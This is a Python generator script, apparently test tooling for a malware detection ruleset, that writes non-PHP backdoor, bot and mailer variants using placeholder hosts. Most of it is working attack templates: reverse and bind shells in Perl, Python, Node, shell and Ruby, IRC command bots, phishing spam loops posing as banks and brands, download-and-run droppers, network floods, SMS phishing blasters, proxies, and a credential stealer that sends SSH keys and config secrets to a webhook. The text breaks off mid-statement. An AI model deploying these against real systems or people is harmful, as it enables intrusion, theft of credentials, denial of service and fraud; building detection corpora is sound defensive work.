"""Script backdoors, bots and mailers beyond PHP, round 7 (branch nonphp6).

A fourth author style, written from technique descriptions only, before the
rules were read for what they match: Perl in the old one-liner idiom and in
modern style (IO::Socket::IP, HTTP::Tiny, Email::Sender), Python 2 and
Python 3.8+ (asyncio, concurrent.futures, aiosmtplib, dnspython, scapy),
POSIX sh and busybox, Node.js as CommonJS, ES modules (`node:` imports,
global fetch) and npm hook scripts, Ruby; comments in Russian, Portuguese,
Indonesian, Chinese and Turkish. Techniques: connect-back and bind shells,
IRC control loops, SMTP spam loops over a target list (raw port 25, MX
lookups, thread pools that map a sender over the list, nodemailer, curl's
smtp://), download-and-run, floods, SMS/HTTP-API blasters, proxies,
credential stealers and persistence scripts.

And the look-alikes a shared host really holds: admin scripts over /home,
monitoring checks that speak SMTP to port 25, deploy tools, a mail merge from
a subscriber database with an unsubscribe link, SMTP and shell test suites,
CI notifiers, a webhook that runs a fixed `git pull`.

Everything here is text written to a temp dir and scanned, never run. Hosts
are the documentation networks (RFC 5737) and .invalid names.

usage: nonphpgen.py --out DIR [--seed N] [--per N]   (writes variants.tsv, as
botgen.py; tests/eval-mail.sh --nonphp scans it)
"""

import string

NETS = ["192.0.2.%d", "198.51.100.%d", "203.0.113.%d"]

COMMENTS = {
    "ru": ["подключаемся к серверу", "запускаем оболочку", "читаем список адресов", "ждём команду",
           "отправляем письмо", "скрываем процесс", "скачиваем и запускаем"],
    "pt": ["conecta no servidor", "abre o shell", "lê a lista de emails", "espera comando",
           "manda o email", "esconde o processo", "baixa e executa"],
    "id": ["sambung ke server", "jalankan shell", "baca daftar email", "tunggu perintah",
           "kirim email", "sembunyikan proses", "unduh lalu jalankan"],
    "zh": ["连接服务器", "启动shell", "读取邮件列表", "等待命令", "发送邮件", "隐藏进程", "下载并执行"],
    "tr": ["sunucuya bağlan", "kabuğu aç", "liste dosyasını oku", "komut bekle", "mektubu gönder",
           "süreci gizle", "indir ve çalıştır"],
    "en": ["connect", "spawn shell", "load list", "wait for orders", "send", "hide", "fetch and run"],
}


def ip(r):
    return r.choice(NETS) % r.randint(2, 250)


def host(r):
    return r.choice([ip(r), "cdn-%d.example.invalid" % r.randint(1, 99), "upd.example.invalid", ip(r)])


def port(r):
    return r.choice([443, 53, 8080, 1337, 4444, 31337, 2083, 9001, 80])


def nm(r, base):
    """A name in one of several spellings."""
    return r.choice([base, base[0], base + str(r.randint(1, 9)), "_" + base, base.upper()[:1] + base[1:],
                     base + "_"])


def names(r, *bases):
    out, seen = [], set()
    for b in bases:
        n = nm(r, b)
        while n in seen or n in ("s", "S") and b != "s":
            n = b + "".join(r.choice(string.ascii_lowercase) for _ in range(2))
        seen.add(n)
        out.append(n)
    return out


def cm(r, prefix, k):
    """A comment (in a language picked per file) or nothing."""
    lang = r.choice(list(COMMENTS))
    if r.random() < 0.3:
        return ""
    return "%s %s\n" % (prefix, COMMENTS[lang][k % len(COMMENTS[lang])])


# ---------------------------------------------------------------------------
# connect-back and bind shells


def t_perl_fdopen_shell(r):
    """Perl, the old idiom: IO::Socket, STDIN/STDOUT fdopen'ed on the socket, then
    every line run (system while <>), or exec of a shell; also IO::Socket::IP."""
    h, p = host(r), port(r)
    c = r.choice(["c", "sock", "S0", "remote"])
    mod = r.choice(["IO::Socket::INET", "IO::Socket::IP"])
    head = r.choice(["#!/usr/bin/perl\n", "#!/usr/bin/perl -w\n", "#!/usr/bin/env perl\nuse strict;\n"])
    conn = r.choice([
        "my $%s = new %s(PeerAddr => \"%s:%d\") or die;\n" % (c, mod, h, p),
        "my $%s = %s->new(PeerHost => $ARGV[0] || '%s', PeerPort => $ARGV[1] || %d, Proto => 'tcp');\n" % (c, mod, h, p),
        "my $%s; until ($%s = %s->new(\"%s:%d\")) { sleep 30 }\n" % (c, c, mod, h, p),
    ])
    body = r.choice([
        "STDIN->fdopen($%s, 'r');\n$~->fdopen($%s, 'w');\nsystem $_ while <>;\n" % (c, c),
        "open(STDIN, '<&', $%s); open(STDOUT, '>&', $%s); open(STDERR, '>&', $%s);\nexec {'/bin/sh'} '-bash';\n" % (c, c, c),
        "while (my $l = <$%s>) {\n    chomp $l;\n    my $o = qx{$l 2>&1};\n    print {$%s} $o, \"\\n# \";\n}\n" % (c, c),
        "print $%s \"ok\\n\";\nwhile (defined(my $q = $%s->getline)) { $%s->print(scalar `$q`) }\n" % (c, c, c),
    ])
    return head + "use %s;\n" % mod.replace("::INET", "").replace("::IP", "::IP") + cm(r, "#", 0) + conn + cm(r, "#", 1) + body, "pl"


def t_py2_shell(r):
    """Python 2 (print statement, urllib2-era) connect-back with a reconnect loop,
    dup2 + pty, or a recv/exec/send loop with commands/subprocess."""
    h, p = host(r), port(r)
    s = r.choice(["s", "so", "k", "conn"])
    head = r.choice(["#!/usr/bin/python\n", "#!/usr/bin/env python2\n# -*- coding: utf-8 -*-\n", ""])
    v = {"s": s, "h": h, "p": p}
    body = r.choice([
        "import socket, os, pty, time\n%(c)swhile 1:\n    try:\n        %(s)s = socket.socket()\n"
        "        %(s)s.connect(('%(h)s', %(p)d))\n        [os.dup2(%(s)s.fileno(), fd) for fd in (0, 1, 2)]\n"
        "        pty.spawn('/bin/bash')\n    except Exception, e:\n        print e\n    time.sleep(60)\n",
        "import socket, subprocess\n%(c)s%(s)s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
        "%(s)s.connect(('%(h)s', %(p)d))\nwhile True:\n    cmd = %(s)s.recv(4096)\n    if not cmd: break\n"
        "    p = subprocess.Popen(cmd, shell=True, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)\n"
        "    %(s)s.send(p.communicate()[0] or '\\n')\n",
        "import socket, commands\n%(c)s%(s)s = socket.create_connection(('%(h)s', %(p)d))\nf = %(s)s.makefile('rw', 0)\n"
        "for line in f:\n    f.write(commands.getoutput(line.strip()) + '\\n$ ')\n",
    ])
    v["c"] = cm(r, "#", 0)
    return head + body % v, "py"


def t_py3_async_shell(r):
    """Python 3.8+: asyncio streams and create_subprocess_shell, or a selectors loop."""
    h, p = host(r), port(r)
    v = {"h": h, "p": p, "c": cm(r, "#", 3)}
    body = r.choice([
        "#!/usr/bin/env python3\nimport asyncio\n\n\nasync def main():\n"
        "    reader, writer = await asyncio.open_connection('%(h)s', %(p)d)\n%(c)s    while line := await reader.readline():\n"
        "        proc = await asyncio.create_subprocess_shell(line.decode(), stdout=asyncio.subprocess.PIPE,\n"
        "                                                     stderr=asyncio.subprocess.STDOUT)\n"
        "        out, _ = await proc.communicate()\n        writer.write(out)\n        await writer.drain()\n\n"
        "asyncio.run(main())\n",
        "import socket as _s, subprocess as _p, os\n%(c)sconn = _s.create_connection((os.environ.get('H', '%(h)s'), %(p)d))\n"
        "_p.run(['/bin/sh', '-i'], stdin=conn, stdout=conn, stderr=conn)\n",
        "#!/usr/bin/env python3\nfrom socket import socket\nfrom subprocess import getoutput\n\nsk = socket()\n"
        "sk.connect(('%(h)s', %(p)d))\n%(c)swhile (data := sk.recv(1024)):\n    sk.sendall(getoutput(data.decode()).encode() + b'\\n')\n",
    ])
    return body % v, "py"


def t_node_shell(r):
    """Node.js: net + child_process as CommonJS or ES modules (`node:` imports),
    the shell's stdio piped to the socket, or data events executed."""
    h, p = host(r), port(r)
    v = {"h": h, "p": p, "c": cm(r, "//", 1)}
    body = r.choice([
        "#!/usr/bin/env node\nconst net = require('net'), { spawn } = require('child_process');\n%(c)s"
        "(function c() {\n  const sh = spawn('/bin/sh', ['-i']);\n  const k = net.connect(%(p)d, '%(h)s', () => {\n"
        "    k.pipe(sh.stdin); sh.stdout.pipe(k); sh.stderr.pipe(k);\n  });\n  k.on('error', () => setTimeout(c, 5000));\n})();\n",
        "import net from 'node:net';\nimport { exec } from 'node:child_process';\n%(c)s"
        "const sock = net.createConnection({ host: '%(h)s', port: %(p)d });\n"
        "sock.on('data', (buf) => exec(buf.toString().trim(), (e, so, se) => sock.write(so + se)));\n",
        "#!/usr/bin/env node\n'use strict';\nvar n = require('net');\nvar cp = require('child_process');\n%(c)s"
        "var s = new n.Socket();\ns.connect(%(p)d, '%(h)s', function () {\n  var p = cp.spawn(process.env.SHELL || '/bin/bash', []);\n"
        "  s.pipe(p.stdin);\n  p.stdout.pipe(s);\n  p.stderr.pipe(s);\n});\n",
    ])
    ext = "mjs" if "import net" in body else r.choice(["js", "cjs"])
    if ext == "js" and not body.startswith("#!"):
        ext = "cjs"
    return body % v, ext


def t_bind_shell(r):
    """Bind shells: Perl with Listen/accept and a fork per client, Python with
    socketserver, Node net.createServer, Ruby TCPServer."""
    p = r.choice([31337, 65000, 2222, 12345, 8443])
    v = {"p": p, "c": cm(r, "#", 1), "jc": cm(r, "//", 1)}
    body, ext = r.choice([
        ("#!/usr/bin/perl\nuse IO::Socket::INET;\n$SIG{CHLD} = 'IGNORE';\n%(c)s"
         "my $srv = IO::Socket::INET->new(LocalPort => %(p)d, Listen => 5, ReuseAddr => 1) or die $!;\n"
         "while (my $cl = $srv->accept) {\n  next if fork;\n  open STDIN, '<&', $cl; open STDOUT, '>&', $cl; open STDERR, '>&', $cl;\n"
         "  exec '/bin/sh', '-i';\n}\n", "pl"),
        ("import socketserver, subprocess\n%(c)s\nclass H(socketserver.StreamRequestHandler):\n    def handle(self):\n"
         "        for line in self.rfile:\n            self.wfile.write(subprocess.run(line, shell=True, capture_output=True).stdout)\n\n"
         "socketserver.ThreadingTCPServer(('0.0.0.0', %(p)d), H).serve_forever()\n", "py"),
        ("#!/usr/bin/env node\nconst { spawn } = require('child_process');\n%(jc)s"
         "require('net').createServer((c) => {\n  const sh = spawn('/bin/sh', ['-i']);\n  c.pipe(sh.stdin);\n"
         "  sh.stdout.pipe(c);\n  sh.stderr.pipe(c);\n}).listen(%(p)d);\n", "js"),
        ("#!/usr/bin/env ruby\nrequire 'socket'\n%(c)sserver = TCPServer.new(%(p)d)\nloop do\n  client = server.accept\n"
         "  Thread.new(client) do |c|\n    while (line = c.gets)\n      c.puts `#{line}`\n    end\n  end\nend\n", "rb"),
    ])
    return body % v, ext


def t_sh_shells(r):
    """Shell: busybox/mknod back-pipes, /dev/tcp read loops, telnet pairs, with
    the host in variables and a reconnect loop."""
    h, p = host(r), port(r)
    v = {"h": h, "p": p, "p2": p + 1, "c": cm(r, "#", 1)}
    body = r.choice([
        "#!/bin/sh\n%(c)sH=%(h)s\nP=%(p)d\nwhile :; do\n  rm -f /tmp/.p; mknod /tmp/.p p\n"
        "  /bin/sh -i 0</tmp/.p 2>&1 | busybox nc \"$H\" \"$P\" 1>/tmp/.p\n  sleep 120\ndone\n",
        "#!/bin/bash\n%(c)sexec 5<>/dev/tcp/%(h)s/%(p)d\nwhile read -r line <&5; do\n  eval \"$line\" >&5 2>&5\ndone\n",
        "#!/bin/sh\n%(c)stelnet %(h)s %(p)d | /bin/sh | telnet %(h)s %(p2)d\n",
        "#!/bin/bash\nT=\"%(h)s\"\n%(c)s( setsid bash -c \"bash -i &>/dev/tcp/$T/%(p)d 0>&1\" & ) 2>/dev/null\n",
    ])
    return body % v, r.choice(["sh", "sh", ""]) or "sh"


# ---------------------------------------------------------------------------
# IRC control loops


def t_irc_perl_select(r):
    """A Perl IRC bot in modern style: IO::Socket::IP, IO::Select, named captures,
    a dispatch hash of subs, the shell order run with open '-|'."""
    h = host(r)
    ch = r.choice(["#w", "#sys", "#00"])
    v = {"h": h, "ch": ch, "c": cm(r, "#", 3), "n": "u%d" % r.randint(100, 999)}
    run = r.choice([
        "open(my $ph, '-|', $arg) or return; while (<$ph>) { say_to($to, $_) }",
        "say_to($to, $_) for split /\\n/, `$arg 2>&1`;",
        "my $out = qx($arg); say_to($to, $out);",
    ])
    return ("#!/usr/bin/env perl\nuse strict; use warnings;\nuse IO::Socket::IP;\nuse IO::Select;\n%(c)s"
            "my $irc = IO::Socket::IP->new(PeerHost => '%(h)s', PeerPort => 6667) or die;\n"
            "print $irc \"NICK %(n)s\\r\\nUSER %(n)s 0 * :%(n)s\\r\\n\";\n"
            "sub say_to { my ($t, $m) = @_; print $irc \"PRIVMSG $t :$m\\r\\n\" }\n"
            "my %%do = (\n  sh => sub { my ($to, $arg) = @_; " + run + " },\n"
            "  quit => sub { exit 0 },\n);\nmy $sel = IO::Select->new($irc);\nwhile ($sel->can_read) {\n"
            "  my $l = <$irc> // last;\n  print $irc \"PONG $1\\r\\n\" if $l =~ /^PING (.*)/;\n"
            "  print $irc \"JOIN %(ch)s\\r\\n\" if $l =~ / 001 /;\n"
            "  if ($l =~ /^:(?<who>[^!]+)!\\S+ PRIVMSG (?<to>\\S+) :!(?<cmd>\\w+) ?(?<arg>.*)/) {\n"
            "    my $f = $do{$+{cmd}} or next;\n    $f->($+{to}, $+{arg});\n  }\n}\n") % v, "pl"


def t_irc_py_async(r):
    """A Python 3 IRC bot on asyncio streams, orders run with
    create_subprocess_shell or run_in_executor(os.popen)."""
    h = host(r)
    v = {"h": h, "c": cm(r, "#", 3), "n": "py%d" % r.randint(10, 99)}
    run = r.choice([
        "        p = await asyncio.create_subprocess_shell(arg, stdout=asyncio.subprocess.PIPE)\n"
        "        out = (await p.communicate())[0].decode(errors='ignore')\n",
        "        out = await loop.run_in_executor(None, lambda: os.popen(arg).read())\n",
    ])
    return ("import asyncio, os\n%(c)sasync def bot():\n    loop = asyncio.get_running_loop()\n"
            "    r, w = await asyncio.open_connection('%(h)s', 6697, ssl=True)\n"
            "    w.write(b'NICK %(n)s\\r\\nUSER %(n)s 0 * :x\\r\\n')\n    while True:\n"
            "        line = (await r.readline()).decode(errors='ignore').strip()\n        if not line:\n            break\n"
            "        if line.startswith('PING'):\n            w.write(('PONG' + line[4:] + '\\r\\n').encode())\n"
            "        elif ' 376 ' in line:\n            w.write(b'JOIN #ops\\r\\n')\n"
            "        elif ' PRIVMSG ' in line and ':.x ' in line:\n            target = line.split()[2]\n"
            "            arg = line.split(':.x ', 1)[1]\n" + run.replace("        ", "            ", 1).replace("\n        ", "\n            ") +
            "            for o in out.splitlines()[:20]:\n                w.write(('PRIVMSG %%s :%%s\\r\\n' %% (target, o)).encode())\n"
            "        await w.drain()\n\nasyncio.run(bot())\n") % v, "py"


def t_irc_node(r):
    """A Node IRC bot over tls/net, orders run through a helper function."""
    h = host(r)
    v = {"h": h, "c": cm(r, "//", 3), "n": "nd%d" % r.randint(10, 99)}
    return ("#!/usr/bin/env node\nconst tls = require('tls');\nconst { execSync } = require('child_process');\n%(c)s"
            "const c = tls.connect(6697, '%(h)s', { rejectUnauthorized: false });\n"
            "const say = (t, m) => c.write(`PRIVMSG ${t} :${m}\\r\\n`);\n"
            "function run(cmd) { try { return execSync(cmd, { timeout: 20000 }).toString(); } catch (e) { return String(e); } }\n"
            "c.on('secureConnect', () => c.write('NICK %(n)s\\r\\nUSER %(n)s 0 * :n\\r\\n'));\nlet buf = '';\n"
            "c.on('data', (d) => {\n  buf += d;\n  let i;\n  while ((i = buf.indexOf('\\n')) >= 0) {\n"
            "    const l = buf.slice(0, i).trim(); buf = buf.slice(i + 1);\n"
            "    if (l.startsWith('PING')) c.write('PONG' + l.slice(4) + '\\r\\n');\n"
            "    else if (/ 001 /.test(l)) c.write('JOIN #n\\r\\n');\n"
            "    const m = l.match(/PRIVMSG (\\S+) :!cmd (.+)/);\n"
            "    if (m) run(m[2]).split('\\n').slice(0, 15).forEach((o) => say(m[1], o));\n  }\n});\n") % v, "js"


# ---------------------------------------------------------------------------
# SMTP spam loops


def t_smtp_raw_perl(r):
    """Perl: raw SMTP to each recipient's MX on port 25 (Net::DNS mx()), over a
    list file, with a sleep; IO::Socket to port 25."""
    v = {"c": cm(r, "#", 2), "c2": cm(r, "#", 4), "fr": r.choice(["info@bank.example.invalid", "$ARGV[2]"]),
         "lst": r.choice(["$ARGV[0]", "'mails.txt'", "shift"])}
    return ("#!/usr/bin/perl\nuse IO::Socket::INET;\nuse Net::DNS;\nmy $res = Net::DNS::Resolver->new;\n"
            "my $letter = do { local (@ARGV, $/) = ($ARGV[1] || 'letter.html'); <> };\n%(c)s"
            "open(my $L, '<', %(lst)s) or die;\nwhile (my $rcpt = <$L>) {\n  chomp $rcpt; next unless $rcpt =~ /\\@(.+)$/;\n"
            "  my ($mx) = mx($res, $1) or next;\n  my $s = IO::Socket::INET->new(PeerAddr => $mx->exchange, PeerPort => 25, Timeout => 15) or next;\n"
            "%(c2)s  for my $l (\"HELO mail.example.invalid\", \"MAIL FROM:<%(fr)s>\", \"RCPT TO:<$rcpt>\", \"DATA\") {\n"
            "    <$s>; print $s \"$l\\r\\n\";\n  }\n  print $s \"Subject: Account notice\\r\\nContent-Type: text/html\\r\\n\\r\\n$letter\\r\\n.\\r\\nQUIT\\r\\n\";\n"
            "  close $s; select(undef, undef, undef, 0.4);\n}\n") % v, "pl"


def t_smtp_pool_py(r):
    """Python 3: a sender function mapped over the list by a thread pool (the
    loop is not in the function that sends), smtplib with rotating relays."""
    v = {"c": cm(r, "#", 2), "c2": cm(r, "#", 4)}
    send = r.choice([
        "        srv.sendmail(FROM, [to], msg.as_string())\n",
        "        srv.send_message(msg)\n",
    ])
    pool = r.choice([
        "with ThreadPoolExecutor(max_workers=25) as ex:\n    list(ex.map(send_one, targets))\n",
        "with ThreadPoolExecutor(20) as pool:\n    for f in as_completed([pool.submit(send_one, t) for t in targets]):\n        print(f.result())\n",
        "Pool(16).map(send_one, targets)\n",
    ])
    imp = "from multiprocessing.dummy import Pool\n" if "Pool(16)" in pool else "from concurrent.futures import ThreadPoolExecutor, as_completed\n"
    return ("#!/usr/bin/env python3\nimport smtplib, random, sys, itertools\nfrom email.mime.text import MIMEText\n" + imp +
            "%(c)sRELAYS = itertools.cycle([l.strip().split('|') for l in open('smtps.txt') if '|' in l])\n"
            "FROM = 'support@paypa1.example.invalid'\nBODY = open(sys.argv[2]).read()\n"
            "targets = [l.strip() for l in open(sys.argv[1]) if '@' in l]\n\n\ndef send_one(to):\n"
            "    host, port, user, pw = next(RELAYS)\n    msg = MIMEText(BODY.replace('{{email}}', to), 'html')\n"
            "    msg['Subject'] = random.choice(['Unusual sign-in', 'Verify your account', 'Invoice #%%d' %% random.randint(1000, 9999)])\n"
            "    msg['From'], msg['To'] = FROM, to\n%(c2)s    try:\n        srv = smtplib.SMTP(host, int(port), timeout=20)\n"
            "        srv.starttls()\n        srv.login(user, pw)\n" + send +
            "        srv.quit()\n        return 'ok ' + to\n    except Exception as e:\n        return 'fail %%s %%s' %% (to, e)\n\n\n" + pool) % v, "py"


def t_smtp_dns_py(r):
    """Python: dnspython MX lookup and direct delivery to port 25 per row of a csv."""
    v = {"c": cm(r, "#", 2)}
    return ("import csv, smtplib, time, sys\nimport dns.resolver\nfrom email.message import EmailMessage\n%(c)s"
            "tpl = open('tpl.html', encoding='utf-8').read()\nwith open(sys.argv[1], newline='') as fh:\n"
            "    for row in csv.DictReader(fh):\n        dom = row['email'].rsplit('@', 1)[-1]\n"
            "        mx = sorted(dns.resolver.resolve(dom, 'MX'), key=lambda a: a.preference)[0].exchange.to_text()\n"
            "        m = EmailMessage()\n        m['From'] = 'Apple <no-reply@icloud-id.example.invalid>'\n        m['To'] = row['email']\n"
            "        m['Subject'] = 'Your ID was locked'\n        m.add_alternative(tpl.format(**row), subtype='html')\n"
            "        with smtplib.SMTP(mx, 25, timeout=30) as s:\n            s.send_message(m)\n        time.sleep(1.5)\n") % v, "py"


def t_smtp_node(r):
    """Node.js: nodemailer over a list read with fs, one sendMail per address."""
    v = {"c": cm(r, "//", 2), "h": ip(r)}
    loop = r.choice([
        "for (const to of list) {\n  await tr.sendMail({ from: FROM, to, subject: pick(subjects), html: letter.replace(/%%EMAIL%%/g, to) });\n"
        "  await new Promise((ok) => setTimeout(ok, 300));\n}\n",
        "await Promise.all(list.map((to) => tr.sendMail({ from: FROM, to: to, subject: pick(subjects), html: letter })));\n",
    ])
    return ("#!/usr/bin/env node\nconst fs = require('fs');\nconst nodemailer = require('nodemailer');\n%(c)s"
            "const list = fs.readFileSync(process.argv[2], 'utf8').split(/\\r?\\n/).filter((l) => l.includes('@'));\n"
            "const letter = fs.readFileSync(process.argv[3] || 'letter.html', 'utf8');\n"
            "const subjects = ['Payment failed', 'Action required', 'Delivery notice'];\nconst pick = (a) => a[Math.floor(Math.random() * a.length)];\n"
            "const FROM = '\"Billing\" <billing@netflix-help.example.invalid>';\n"
            "const tr = nodemailer.createTransport({ host: '%(h)s', port: 25, secure: false, tls: { rejectUnauthorized: false } });\n"
            "(async () => {\n" + loop + "})();\n") % v, r.choice(["js", "cjs"])


def t_smtp_curl_sh(r):
    """Shell: curl's smtp:// per line of a list (IFS= read -r), or swaks-less
    openssl s_client; the recipient upper-case or lower-case."""
    var = r.choice(["RCPT", "addr", "EMAIL", "to"])
    v = {"v": var, "c": cm(r, "#", 2), "h": ip(r)}
    body = r.choice([
        "#!/bin/sh\n%(c)sLIST=${1:-emails.txt}\nwhile IFS= read -r %(v)s; do\n  [ -z \"$%(v)s\" ] && continue\n"
        "  sed \"s/{TO}/$%(v)s/g\" letter.eml > /tmp/.m\n"
        "  curl -s --url smtp://%(h)s:25 --mail-from alert@chase-secure.example.invalid --mail-rcpt \"$%(v)s\" --upload-file /tmp/.m\n"
        "  sleep 1\ndone < \"$LIST\"\n",
        "#!/bin/bash\n%(c)sfor %(v)s in $(cat \"$1\"); do\n  {\n    echo \"To: $%(v)s\"; echo \"Subject: Your parcel\"; echo \"Content-Type: text/html\"; echo\n"
        "    cat body.html\n  } | /usr/sbin/sendmail -f info@dhl-track.example.invalid \"$%(v)s\"\ndone\n",
    ])
    return body % v, "sh"


def t_smtp_email_sender_perl(r):
    """Perl: Email::Sender / Email::Stuffer per address of an array read from a file."""
    v = {"c": cm(r, "#", 4)}
    body = r.choice([
        "use Email::Stuffer;\nmy @to = do { open my $f, '<', $ARGV[0] or die; map { chomp; $_ } <$f> };\n%(c)s"
        "for my $rcpt (@to) {\n  Email::Stuffer->from('security@amaz0n.example.invalid')->to($rcpt)\n"
        "    ->subject('Order #' . int(rand(99999)))->html_body($html)->send;\n  sleep 1 + int(rand 3);\n}\n",
        "use Email::Sender::Simple qw(sendmail);\nuse Email::Simple;\nmy @to = map { s/\\s+$//r } do { open my $f, '<', 'list.txt'; <$f> };\n%(c)s"
        "foreach my $r (@to) {\n  my $e = Email::Simple->create(header => [To => $r, From => 'it@corp.example.invalid', Subject => 'Password expires'], body => $html);\n"
        "  sendmail($e, { to => $r });\n}\n",
    ])
    return "#!/usr/bin/perl\nuse strict;\nmy $html = do { local $/; open my $h, '<', 'letter.html'; <$h> };\n" + body % v, "pl"


# ---------------------------------------------------------------------------
# download and run, floods, blasters, proxies, stealers, persistence


def t_fetch_run(r):
    """Download-and-run in other spellings: Python 2 urllib2 exec, Python
    compile(), Perl HTTP::Tiny eval, Node https.get + eval/Function,
    busybox wget into /dev/shm."""
    h = host(r)
    v = {"h": h, "c": cm(r, "#", 6), "jc": cm(r, "//", 6), "n": r.choice([".x", ".cache", "kdevtmpfsi", ".sshd"])}
    body, ext = r.choice([
        ("import urllib2\n%(c)sexec urllib2.urlopen('http://%(h)s/s.py').read()\n", "py"),
        ("from urllib.request import urlopen\n%(c)scode = urlopen('http://%(h)s:8080/p').read().decode()\n"
         "exec(compile(code, '<m>', 'exec'), {'__name__': '__main__'})\n", "py"),
        ("#!/usr/bin/perl\nuse HTTP::Tiny;\n%(c)smy $r = HTTP::Tiny->new(verify_SSL => 0)->get('http://%(h)s/b.pl');\n"
         "eval $r->{content} if $r->{success};\n", "pl"),
        ("#!/usr/bin/env node\nrequire('http').get('http://%(h)s/j', (res) => {\n  let b = '';\n%(jc)s"
         "  res.on('data', (c) => (b += c));\n  res.on('end', () => new Function('require', b)(require));\n});\n", "js"),
        ("#!/bin/sh\n%(c)scd /dev/shm || cd /tmp\nbusybox wget -q http://%(h)s/x86 -O %(n)s && chmod 777 %(n)s && ./%(n)s &\n", "sh"),
        ("#!/bin/sh\n%(c)sU=http://%(h)s/i\n(curl -fsk $U || wget -qO- $U) > /var/tmp/%(n)s; sh /var/tmp/%(n)s; rm -f /var/tmp/%(n)s\n", "sh"),
    ])
    return body % v, ext


def t_flood(r):
    """Floods: scapy SYN flood, Perl UDP with rand ports to a deadline, Node
    dgram in an endless while, Python slowloris threads."""
    v = {"c": cm(r, "#", 3), "jc": cm(r, "//", 3)}
    body, ext = r.choice([
        ("#!/usr/bin/env python3\nfrom scapy.all import IP, TCP, RandShort, send\nimport sys\n%(c)s"
         "send(IP(dst=sys.argv[1]) / TCP(sport=RandShort(), dport=int(sys.argv[2]), flags='S'), loop=1, verbose=0)\n", "py"),
        ("#!/usr/bin/perl\nuse Socket;\nmy ($ip, $secs) = @ARGV;\n%(c)ssocket(my $s, PF_INET, SOCK_DGRAM, 17);\n"
         "my $end = time + $secs;\nmy $iaddr = inet_aton($ip);\nwhile (time < $end) {\n"
         "  send($s, 'A' x (64 + int rand 1400), 0, pack_sockaddr_in(1 + int rand 65535, $iaddr));\n}\n", "pl"),
        ("#!/usr/bin/env node\nconst dgram = require('dgram');\nconst [,, host, port, secs] = process.argv;\n%(jc)s"
         "const s = dgram.createSocket('udp4');\nconst buf = Buffer.alloc(1400, 0x41);\nconst end = Date.now() + secs * 1000;\n"
         "(function blast() {\n  for (let i = 0; i < 500; i++) s.send(buf, +port || (Math.random() * 65535) | 0, host);\n"
         "  if (Date.now() < end) setImmediate(blast); else s.close();\n})();\n", "js"),
        ("import socket, threading, random, sys, time\n%(c)starget = sys.argv[1]\nsocks = []\n\ndef open_one():\n"
         "    s = socket.create_connection((target, 80), timeout=4)\n"
         "    s.send(('GET /?%%d HTTP/1.1\\r\\nHost: %%s\\r\\n' %% (random.randint(0, 9999), target)).encode())\n    return s\n\n"
         "for _ in range(int(sys.argv[2])):\n    socks.append(open_one())\nwhile True:\n    for s in list(socks):\n"
         "        try:\n            s.send(b'X-a: %%d\\r\\n' %% random.randint(1, 5000))\n        except OSError:\n"
         "            socks.remove(s); socks.append(open_one())\n    time.sleep(12)\n", "py"),
    ])
    return body % v, ext


def t_sms_blaster(r):
    """SMS blasters in Python and Node: one provider API call per number of a file."""
    v = {"c": cm(r, "#", 4), "jc": cm(r, "//", 4)}
    body, ext = r.choice([
        ("#!/usr/bin/env python3\nimport requests, sys, time\nSID, TOK = open('.twilio').read().split()\n%(c)s"
         "text = 'Your bank card is blocked. Unlock: https://bit.example.invalid/x'\n"
         "for num in open(sys.argv[1]):\n    num = num.strip()\n"
         "    r = requests.post(f'https://api.twilio.com/2010-04-01/Accounts/{SID}/Messages.json', auth=(SID, TOK),\n"
         "                      data={'To': num, 'From': '+15005550006', 'Body': text})\n    print(num, r.status_code)\n    time.sleep(0.2)\n", "py"),
        ("const axios = require('axios');\nconst fs = require('fs');\n%(jc)s"
         "const nums = fs.readFileSync('numbers.txt', 'utf8').split('\\n').filter(Boolean);\n"
         "(async () => {\n  for (const to of nums) {\n    await axios.post('https://rest.nexmo.com/sms/json', { api_key: process.env.K, api_secret: process.env.S,\n"
         "      from: 'Post', to, text: 'Parcel held, pay fee: https://pay.example.invalid' }).catch(() => {});\n  }\n})();\n", "js"),
    ])
    return body % v, ext


def t_proxy(r):
    """Proxies: a Node TCP relay or SOCKS5 in /tmp, a Perl IO::Select relay, a
    Python 3 asyncio relay; detached."""
    v = {"c": cm(r, "#", 5), "jc": cm(r, "//", 5), "h": ip(r), "p": r.choice([1080, 8118, 3128, 10808])}
    body, ext = r.choice([
        ("#!/usr/bin/env node\nconst net = require('net');\n%(jc)s"
         "net.createServer((c) => {\n  c.once('data', (hello) => {\n    if (hello[0] !== 5) return c.destroy();\n"
         "    c.write(Buffer.from([5, 0]));\n    c.once('data', (req) => {\n      const port = req.readUInt16BE(req.length - 2);\n"
         "      const host = req[3] === 3 ? req.slice(5, 5 + req[4]).toString() : req.slice(4, 8).join('.');\n"
         "      const up = net.connect(port, host, () => {\n        c.write(Buffer.from([5, 0, 0, 1, 0, 0, 0, 0, 0, 0]));\n"
         "        c.pipe(up).pipe(c);\n      });\n      up.on('error', () => c.destroy());\n    });\n  });\n}).listen(%(p)d);\n", "js"),
        ("import asyncio, os\n%(c)sasync def pipe(r, w):\n    while (d := await r.read(65536)):\n        w.write(d)\n        await w.drain()\n    w.close()\n\n"
         "async def handle(cr, cw):\n    ur, uw = await asyncio.open_connection('%(h)s', 22)\n"
         "    await asyncio.gather(pipe(cr, uw), pipe(ur, cw))\n\n"
         "if os.fork() == 0:\n    os.setsid()\n    loop = asyncio.new_event_loop()\n"
         "    srv = loop.run_until_complete(asyncio.start_server(handle, '0.0.0.0', %(p)d))\n    loop.run_forever()\n", "py"),
    ])
    return body % v, ext


def t_stealer(r):
    """Credential stealers beyond PHP: Python walking /home for configs and keys,
    posted to a webhook; Node npm postinstall sending env and ~/.npmrc; shell
    tarring keys to a Telegram bot."""
    v = {"c": cm(r, "#", 6), "jc": cm(r, "//", 6), "h": host(r)}
    body, ext = r.choice([
        ("#!/usr/bin/env python3\nimport glob, re, json, urllib.request, socket\n%(c)sloot = {}\n"
         "for f in glob.glob('/home/*/public_html/**/wp-config.php', recursive=True) + glob.glob('/home/*/.env'):\n"
         "    try:\n        t = open(f, errors='ignore').read()\n    except OSError:\n        continue\n"
         "    loot[f] = re.findall(r\"DB_(?:USER|PASSWORD|HOST)'\\s*,\\s*'([^']*)\", t) or re.findall(r'^(?:DB_|AWS_|MAIL_)\\w+=.*$', t, re.M)\n"
         "for k in glob.glob('/home/*/.ssh/id_*') + glob.glob('/root/.aws/credentials'):\n"
         "    loot[k] = open(k, errors='ignore').read()\n"
         "req = urllib.request.Request('https://discord.com/api/webhooks/1/xyz', data=json.dumps({'content': socket.gethostname(),\n"
